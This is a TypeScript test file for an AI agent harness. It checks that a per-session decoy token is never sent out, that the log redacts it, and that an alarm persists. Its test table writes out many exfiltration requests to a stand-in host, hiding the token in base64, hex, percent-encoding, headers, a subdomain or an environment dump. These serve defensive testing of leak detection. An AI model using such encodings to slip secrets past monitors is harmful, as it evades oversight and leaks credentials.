import { createHash } from 'node:crypto'
import { failureOf, sessionId, type NetworkRequest, type SessionEvent } from '@tabwright/protocol'
import { answer, fakeHash, stories, text, tool, type Story } from '@tabwright/testkit'
import { describe, expect, it } from 'vitest'
import { canaryOf } from './canary'
import type { Network } from './network'

const start = stories()

const { value } = canaryOf(fakeHash, sessionId('story'))
const bytes = (said: string): Uint8Array => new TextEncoder().encode(said)
const coded = (how: BufferEncoding, said = value): string => Buffer.from(said).toString(how)

type Asked = Pick<NetworkRequest, 'url'> & Partial<NetworkRequest>

/** A session in Auto with a rule for the place, whose command sends one request. */
async function sending(request: Asked): Promise<{ readonly s: Story; readonly said: string; readonly sent: number }> {
  let sent = 0
  const network: Network = {
    missing: () => Promise.resolve(undefined),
    digest: (given) => Promise.resolve(createHash('sha256').update(given).digest('hex')),
    address: (at) => ({ href: new URL(at).href, origin: new URL(at).origin, host: new URL(at).host }),
    send: ({ url }) => {
      sent += 1
      return Promise.resolve({ status: 200, statusText: 'OK', url, headers: [], body: (async function* () {})() })
    },
  }
  const script = [answer([tool('shell', { command: 'run it' }, { id: 't1' })]), answer([text('ok')])]
  const s = await start({
    script,
    network,
    shell: async (_command, run) => {
      if (!run.fetch) throw new Error('there is no network in the run')
      const whole = { method: 'GET' as const, headers: [], purpose: 'curl', ...request }
      const came = run.fetch(whole, { signal: run.signal, sent: () => undefined })
      return {
        text: await came.then(
          () => 'sent',
          (error: unknown) => failureOf(error).message,
        ),
      }
    },
  })
  await s.commands.setMode('auto')
  await s.commands.send('go')
  await s.until('turn.ended')
  const ended = (await s.facts()).findLast((event): event is SessionEvent<'call.ended'> => event.type === 'call.ended')
  return { s, said: ended?.data.outcome.text ?? '', sent }
}

describe('[O26] the decoy of a session', () => {
  it.each<[how: string, request: Asked]>([
    ['plain in the address', { url: `https://a.example/?d=${value}` }],
    ['in capitals', { url: `https://a.example/${value.toUpperCase()}` }],
    ['in a header, letter by letter', { url: 'https://a.example/', headers: [['X-Note', value.split('').join('-')]] }],
    ['in a body, in base64', { url: 'https://a.example/', method: 'POST', body: bytes(coded('base64', `env: ${value}!`)) }],
    ['in hex', { url: `https://a.example/${coded('hex')}` }],
    ['in percent signs', { url: `https://a.example/?${coded('hex').replaceAll(/../g, '%$&')}` }],
    ['backwards', { url: `https://a.example/${Array.from(value).toReversed().join('')}` }],
    ['in base64 of base64', { url: 'https://a.example/', method: 'POST', body: bytes(coded('base64', coded('base64'))) }],
    ['by its first half', { url: `https://a.example/${value.slice(0, value.length / 2)}` }],
    ['as a name of a host', { url: `https://${value.replace('_', '-')}.a.example/` }],
    [
      'in all of an environment',
      { url: 'https://a.example/', method: 'POST', body: bytes(`HOME=/home/user\nDECOY_DEPLOY_TOKEN=${value}\nLANG=C`) },
    ],
  ])('is not sent %s: the agent is refused, the person is told, and the log says so without it', async (_how, request) => {
    const { s, said, sent } = await sending(request)
    expect(sent).toBe(0)
    expect(said).toMatch(/^A rule denied the request to [\w.-]+: it holds the decoy token of this session, which nobody has a use for/)
    expect(s.journal.state.taint.alarm).toMatchObject({ source: expect.stringMatching(/^a request to [\w.-]+$/) })
    const judged = (await s.facts()).find((event) => event.type === 'fetch.judged')
    expect(judged?.data).toMatchObject({ verdict: { type: 'deny', rule: 'leak:canary' } })
    expect(JSON.stringify([await s.facts(), s.server.requests])).not.toContain(value)
    const [first] = (await s.history.points()).filter(({ isBorder }) => isBorder).toReversed()
    if (!first) throw new Error('no place to go back to')
    await s.restorer.restore({ to: first.seq, scope: 'conversation', keep: [] })
    expect(s.journal.state.taint.alarm, 'going back does not forget it').toBeDefined()
    await s.restart()
    expect(s.journal.state.taint.alarm).toBeDefined()
  })

  it('is not in the log, for the model or on the screen, whatever prints it', async () => {
    const script = [answer([tool('shell', { command: 'env' }, { id: 't1' })]), answer([text('ok')])]
    const s = await start({ script, shell: async () => ({ text: `A=1\nDECOY_DEPLOY_TOKEN=${value}\n${coded('base64')}` }) })
    await s.commands.setMode('auto')
    await s.commands.send('go')
    await s.until('turn.ended')
    const all = JSON.stringify([await s.facts(), s.server.requests])
    expect(all).toContain('DECOY_DEPLOY_TOKEN=[secret: the decoy token of this session]')
    for (const one of [value, coded('base64')]) expect(all).not.toContain(one)
    expect(s.journal.state.taint.alarm, 'to look at it is no leak').toBeUndefined()
  })

  it('is another one in another session, and the same one after a restart', () => {
    expect(canaryOf(fakeHash, sessionId('b')).value).not.toBe(value)
    expect(canaryOf(fakeHash, sessionId('story')).value).toBe(value)
    expect(value).toMatch(/^dpl_[0-9a-f]{32}$/)
  })
})
